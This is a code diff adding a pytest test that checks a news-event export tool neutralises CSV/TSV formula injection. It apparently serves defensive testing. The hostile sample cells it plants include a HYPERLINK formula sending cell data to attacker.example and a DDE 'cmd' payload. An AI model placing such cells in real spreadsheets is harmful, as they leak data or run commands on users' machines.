@@ -210,3 +210,58 @@ def test_hostile_published_as_json_number_is_a_bad_record():
 
     with pytest.raises(BadRecord, match="published"):
         record_to_article({"text": REPORT, "published": 20230101}, "x.jsonl:1")
+
+
+# ---------------------------------------------------------------------------------------------------
+# Exports: no cell a spreadsheet would run
+
+
+def test_hostile_csv_cells_are_neutralised(tmp_path, monkeypatch):
+    """Every CSV/TSV layout writes formula-like text with a leading ' (and verbatim with the opt-out)."""
+    import csv
+    import io
+
+    from wirecoder.export import FORMATS, export
+    from wirecoder.export.csvsafe import FORMULA_START, safe_cell
+    from wirecoder.store import Store
+
+    assert safe_cell("=HYPERLINK(1)") == "'=HYPERLINK(1)" and safe_cell(" @x") == "' @x"
+    assert safe_cell("\tx") == "'\tx" and safe_cell(-3.5) == -3.5 and safe_cell("Kabul") == "Kabul"
+
+    from web_server import hostile_article
+
+    article = hostile_article()
+    for event in article.events:
+        event.evidence["sentence"] = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
+        if event.source is not None:
+            event.source.text = "+cmd|' /C calc'!A0"
+        if event.target is not None:
+            event.target.name = "@SUM(1+1)"
+    article.title = "-2+3"
+    store = Store(tmp_path / "w.db")
+    store.save(article)
+    for fmt in FORMATS:
+        if fmt in ("jsonl", "parquet"):
+            continue
+        out = io.StringIO()
+        export(store, fmt, out)
+        delimiter = "," if fmt in ("csv", "acled") else "\t"
+        rows = list(csv.reader(io.StringIO(out.getvalue()), delimiter=delimiter))
+        cells = [c for row in rows for c in row]
+        assert cells, fmt
+        bad = [c for c in cells if c[:1] in ("\t", "\r") or c.lstrip().startswith(FORMULA_START)]
+        # negative numbers (coordinates, Goldstein scores) are numbers, not text
+        bad = [c for c in bad if not _is_number(c)]
+        assert not bad, (fmt, bad)
+    monkeypatch.setenv("WIRECODER_CSV_RAW", "1")
+    out = io.StringIO()
+    export(store, "csv", out)
+    assert "=HYPERLINK(" in out.getvalue() and "'=HYPERLINK(" not in out.getvalue()
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
